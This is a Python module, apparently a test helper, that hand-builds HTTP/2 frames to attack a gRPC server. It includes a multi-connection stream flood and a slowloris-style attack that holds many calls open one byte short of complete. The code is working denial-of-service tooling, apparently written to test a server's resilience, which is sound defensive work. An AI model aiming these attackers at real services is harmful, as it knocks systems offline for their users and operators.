"""HTTP/2 by hand, for callers that break its rules or its spirit."""

from __future__ import annotations

import socket
import threading
import time
from collections import Counter
from collections.abc import Callable, Mapping
from contextlib import suppress
from types import TracebackType
from typing import Self

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
_ACK = 1
_FRAME_HEAD = 9
_NO_ERROR, _CANCEL = 0, 8
# What gRPC says of calls that it does not show to the server: too many are open on the connection, or wait already.
_CODES = {7: "refused by gRPC", 11: "refused by gRPC"}
_DROPPED = b"\x0bgrpc-status\x011"
# How many calls a flood writes at a time, and when it needs another connection.
_AT_ONCE = 50
_LAST_STREAM = 1_000_000
PATIENCE = 30.0
# An attack ends by then, whatever becomes of its test.
LONGEST_SECONDS = 1200.0
_END_STREAM, _END_HEADERS = 1, 4
_INITIAL_WINDOW = 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame (RFC 9113, section 4.1)."""
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def settings(*, window: int) -> bytes:
    """Return settings that let the other side send so many bytes of data on each stream."""
    return frame(_SETTINGS, 0, 0, _INITIAL_WINDOW.to_bytes(2) + window.to_bytes(4))


def request(stream: int, path: str, token: str, message: bytes) -> bytes:
    """Return a unary gRPC call."""
    body = b"\0" + len(message).to_bytes(4) + message
    return begin(stream, path, token) + frame(_DATA, _END_STREAM, stream, body)


def _call_headers(path: str, token: str) -> dict[str, str]:
    headers = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "localhost",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    return headers | ({"authorization": f"Bearer {token}"} if token else {})


def _literal(headers: Mapping[str, str]) -> bytes:
    """Write headers without any compression (RFC 7541, section 6.2.2); texts are shorter than 127 bytes."""
    pairs = ((name.encode("ascii"), value.encode("ascii")) for name, value in headers.items())
    return b"".join(b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value for name, value in pairs)


def connect(address: str) -> socket.socket:
    """Open a connection."""
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)))


def closed_by_the_server(connection: socket.socket, seconds: float) -> bool:
    """Read until the server closes a connection; False when it does not in time."""
    connection.settimeout(seconds)
    try:
        while connection.recv(4096):
            pass
    except TimeoutError:
        return False
    except ConnectionError:
        return True
    return True


def begin(stream: int, path: str, token: str = "", *, end: bool = False) -> bytes:
    """Return the beginning of a gRPC call, without a message; with `end` nothing more follows."""
    flags = _END_HEADERS | (_END_STREAM if end else 0)
    return frame(_HEADERS, flags, stream, _literal(_call_headers(path, token)))


def reset(stream: int) -> bytes:
    """Return the end of a stream by its caller."""
    return frame(_RST_STREAM, 0, stream, _CANCEL.to_bytes(4))


class _Attackers:
    """Connections of their own, on a thread each, until they are stopped or `LONGEST_SECONDS` have passed.

    `sent` is how many calls they have begun, and `ended` how many of those the server has ended: "served" with a
    message, "refused" with a status alone, or "dropped" by gRPC before the server looked at them.
    """

    def __init__(self, connect_once: Callable[[], socket.socket], *, connections: int) -> None:
        self._connect = connect_once
        self._stopping = threading.Event()
        self._until = 0.0
        self._threads = [threading.Thread(target=self._run, daemon=True) for _ in range(connections)]
        self.sent = 0
        self.ended = Counter[str]()

    def __enter__(self) -> Self:
        self._until = time.monotonic() + LONGEST_SECONDS
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._stopping.set()
        for thread in self._threads:
            thread.join()

    @property
    def stopping(self) -> bool:
        """Say whether it is over."""
        return self._stopping.is_set() or time.monotonic() > self._until

    def _run(self) -> None:
        while not self.stopping:
            with suppress(OSError), self._connect() as connection:
                self._attack(connection)

    def _attack(self, connection: socket.socket) -> None:
        raise NotImplementedError


class Flood(_Attackers):
    """Begins calls on connections of its own as fast as the server reads them, until it is stopped.

    `said` returns the bytes of one call on a stream; a connection that is closed, or has used up its streams, is made
    anew. With `hold`, so many calls of each connection are begun each second, for those that the server has ended.
    """

    def __init__(
        self,
        connect_once: Callable[[], socket.socket],
        said: Callable[[int], bytes],
        *,
        connections: int,
        hold: int = 0,
    ) -> None:
        super().__init__(connect_once, connections=connections)
        self._said, self._hold = said, hold

    def _attack(self, connection: socket.socket) -> None:
        connection.sendall(PREFACE + settings(window=65535))
        frames = _Frames(self.ended)
        # So many at a time, and what the server says in between is read, so that it goes on reading.
        many, pause = (self._hold, 1.0) if self._hold else (_AT_ONCE, 0.001)
        for first in range(1, _LAST_STREAM, 2 * many):
            connection.settimeout(PATIENCE)
            connection.sendall(b"".join(self._said(stream) for stream in range(first, first + 2 * many, 2)))
            self.sent += many
            until = time.monotonic() + pause
            while not self.stopping and (left := until - time.monotonic()) > 0:
                connection.settimeout(left)
                with suppress(TimeoutError):
                    received = connection.recv(1 << 16)
                    if not received:
                        return
                    connection.settimeout(PATIENCE)
                    for one in frames.read(received):
                        connection.sendall(_acknowledgement(*one))
            if self.stopping:
                return


class HalfSent(_Attackers):
    """Begins calls on connections of its own and sends the message of each but for its last byte, until it is stopped.

    `begin_call` returns the bytes that begin one on a stream, and `size` is what a message says that it has; `before`
    is sent whole. Each connection keeps `calls` of them, and begins others for those that the server ends. `taken` are
    the bytes of those that are open on the last connection, and `rests` how often the server said nothing for 50 ms.
    """

    def __init__(
        self,
        connect_once: Callable[[], socket.socket],
        begin_call: Callable[[int], bytes],
        *,
        size: int,
        connections: int,
        calls: int,
        before: bytes = b"",
    ) -> None:
        super().__init__(connect_once, connections=connections)
        self._begin, self._calls = begin_call, calls
        self.taken = self.rests = 0
        self._message = before + b"\0" + size.to_bytes(4) + bytes(size - 1)

    def _attack(self, connection: socket.socket) -> None:
        _Halves(connection, self._message).keep(self)

    def next_call(self, stream: int) -> bytes:
        """Return what begins a call, and count it."""
        self.sent += 1
        return self._begin(stream)

    @property
    def calls(self) -> int:
        """Return how many calls a connection keeps."""
        return self._calls


class _Frames:
    """What the server says on one connection, cut into frames; `ended` counts what it does with calls."""

    def __init__(self, ended: Counter[str]) -> None:
        self._ended = ended
        self._received = b""
        self._served: set[int] = set()

    def read(self, received: bytes) -> list[tuple[int, int, int, bytes]]:
        """Return kind, flags, stream and payload of the frames that are complete now."""
        self._received += received
        frames, start = [], 0
        while len(self._received) >= start + _FRAME_HEAD:
            head = self._received[start : start + _FRAME_HEAD]
            end = start + _FRAME_HEAD + int.from_bytes(head[:3])
            if len(self._received) < end:
                break
            stream = int.from_bytes(head[5:]) & 0x7FFFFFFF
            frames.append((head[3], head[4], stream, self._received[start + _FRAME_HEAD : end]))
            self._count(*frames[-1])
            start = end
        self._received = self._received[start:]
        return frames

    def _count(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == _DATA:
            self._served.add(stream)
        elif kind == _HEADERS and flags & _END_STREAM:
            self._ended["dropped" if _DROPPED in payload else "served" if stream in self._served else "refused"] += 1
            self._served.discard(stream)
        elif kind == _RST_STREAM and (code := int.from_bytes(payload)) != _NO_ERROR:
            self._ended[_CODES.get(code, f"reset with {code}")] += 1


def _acknowledgement(kind: int, flags: int, _: int, payload: bytes) -> bytes:
    """Return what a frame is to be answered with, or nothing: gRPC refuses calls of those who answer no settings."""
    if flags & _ACK or kind not in {_PING, _SETTINGS}:
        return b""
    return frame(kind, _ACK, 0, payload if kind == _PING else b"")


class _Halves:
    """One connection whose calls are sent in part, as far as the windows of the server let it (RFC 9113, 5.2)."""

    def __init__(self, connection: socket.socket, message: bytes) -> None:
        self._connection, self._message = connection, message
        self._next_stream = 1
        # Of the connection (0) and of each stream, how much the server lets come; and how much of each was sent.
        self._windows = {0: 65535}
        self._first_window = 65535
        self._sent: dict[int, int] = {}

    def keep(self, attack: HalfSent) -> None:
        """Begin calls and send their messages until the attack is over, or the connection."""
        frames = _Frames(attack.ended)
        self._connection.sendall(PREFACE + settings(window=65535))
        while not attack.stopping and self._next_stream < _LAST_STREAM:
            self._connection.settimeout(PATIENCE)
            while len(self._sent) < attack.calls:
                self._connection.sendall(attack.next_call(self._next_stream))
                self._sent[self._next_stream], self._windows[self._next_stream] = 0, self._first_window
                self._next_stream += 2
            for stream in self._sent:
                self._send(stream)
            attack.taken = sum(self._sent.values())
            self._connection.settimeout(0.05)
            try:
                received = self._connection.recv(1 << 20)
            except TimeoutError:
                attack.rests += 1
                continue
            if not received:
                return
            self._connection.settimeout(PATIENCE)
            for one in frames.read(received):
                self._read(*one)

    def _send(self, stream: int) -> None:
        while room := min(1 << 14, len(self._message) - self._sent[stream], self._windows[0], self._windows[stream]):
            if room < 0:
                return
            start = self._sent[stream]
            self._connection.sendall(frame(_DATA, 0, stream, self._message[start : start + room]))
            self._sent[stream] += room
            self._windows[0] -= room
            self._windows[stream] -= room

    def _read(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == _WINDOW_UPDATE and stream in self._windows:
            self._windows[stream] += int.from_bytes(payload)
        elif kind == _RST_STREAM or (kind in {_DATA, _HEADERS} and flags & _END_STREAM):
            self._sent.pop(stream, None)
            self._windows.pop(stream, None)
        elif kind == _SETTINGS and not flags & _ACK:
            for place in range(0, len(payload), 6):
                if int.from_bytes(payload[place : place + 2]) == _INITIAL_WINDOW:
                    self._resize(int.from_bytes(payload[place + 2 : place + 6]))
        self._connection.sendall(_acknowledgement(kind, flags, stream, payload))

    def _resize(self, window: int) -> None:
        for stream in self._sent:
            self._windows[stream] += window - self._first_window
        self._first_window = window
